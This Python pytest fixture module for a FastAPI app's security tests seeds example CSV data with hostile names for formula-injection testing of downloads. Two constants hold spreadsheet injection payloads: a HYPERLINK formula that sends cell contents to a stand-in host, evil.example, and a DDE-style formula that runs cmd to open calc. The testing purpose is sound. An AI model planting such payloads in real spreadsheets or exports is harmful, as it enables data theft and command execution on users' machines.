"""A running app for the security tests, on SQLite AND PostgreSQL (own schema, dropped afterwards).

Its data folder is the worked example county with hostile names: a consortium and a township clinic whose names
are spreadsheet formulas (the kind ``check`` lets through), so every download can be tested for formula injection.
``live`` is built once per test module and backend; ``live.login(name, role)`` returns a bearer header.
"""

from __future__ import annotations

import csv
import shutil
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from api_fixtures import INSIDE_WINDOW, PASSWORD
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import text
from store_fixtures import PG_URL, pg_unreachable

from yigongti.app.factory import create_app
from yigongti.core.db import make_engine
from yigongti.platform.accounts import create_user
from yigongti.platform.settings import Settings

__all__ = ["EVIL_CONSORTIUM", "EVIL_TOWNSHIP", "Live", "hostile_folder", "live"]

EVIL_CONSORTIUM = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
EVIL_TOWNSHIP = "@SUM(1+1)*cmd|' /C calc'!A0"


def hostile_folder(example_input: Path, into: Path) -> Path:
    """A copy of the example input with formula names for consortium G1 and its first township clinic."""
    out = into / "input"
    shutil.copytree(example_input, out)
    for name, key, evil, pick in (("consortia", "consortium_id", EVIL_CONSORTIUM, lambda r: r["consortium_id"] == "G1"),
                                  ("institutions", "inst_id", EVIL_TOWNSHIP, lambda r: r["tier"] == "township")):
        path = out / f"{name}.csv"
        with path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.DictReader(fh))
        first = next(r for r in rows if pick(r))
        first["name"] = evil
        with path.open("w", encoding="utf-8", newline="") as fh:
            w = csv.DictWriter(fh, fieldnames=list(rows[0]))
            w.writeheader()
            w.writerows(rows)
    return out


@dataclass
class Live:
    """The app of one backend and a client on it (server errors answered, not raised)."""

    kind: str
    app: FastAPI
    client: TestClient

    def login(self, username: str, role: str, **anchor: str) -> dict[str, str]:
        ctx = self.app.state.ctx
        with ctx.sessions.begin() as s:
            create_user(s, username=username, password=PASSWORD, role=role, now=ctx.clock.now(), **anchor)
        r = self.client.post("/api/token", data={"username": username, "password": PASSWORD})
        assert r.status_code == 200, r.text
        return {"Authorization": f"Bearer {r.json()['access_token']}"}


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def live(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory,
         example_input: Path) -> Iterator[Live]:
    base = tmp_path_factory.mktemp(f"security-{request.param}")
    folder = hostile_folder(example_input, base)
    db_url, schema = "", None
    if request.param == "postgresql":
        reason = pg_unreachable()
        if reason:
            pytest.skip(reason)
        schema = f"t_{uuid.uuid4().hex[:12]}"
        with make_engine(PG_URL).begin() as conn:
            conn.execute(text(f"CREATE SCHEMA {schema}"))
        db_url = f"{PG_URL}?options=-csearch_path%3D{schema}"
    app = create_app(Settings(data_dir=base / "serve", db_url=db_url, data_folder=folder, today=INSIDE_WINDOW,
                              demo_accounts=False, login_burst=50, login_refill_seconds=3600))
    try:
        with TestClient(app, raise_server_exceptions=False) as c:
            yield Live(request.param, app, c)
    finally:
        app.state.ctx.engine.dispose()
        if schema:
            admin = make_engine(PG_URL)
            with admin.begin() as conn:
                conn.execute(text(f"DROP SCHEMA IF EXISTS {schema} CASCADE"))
            admin.dispose()
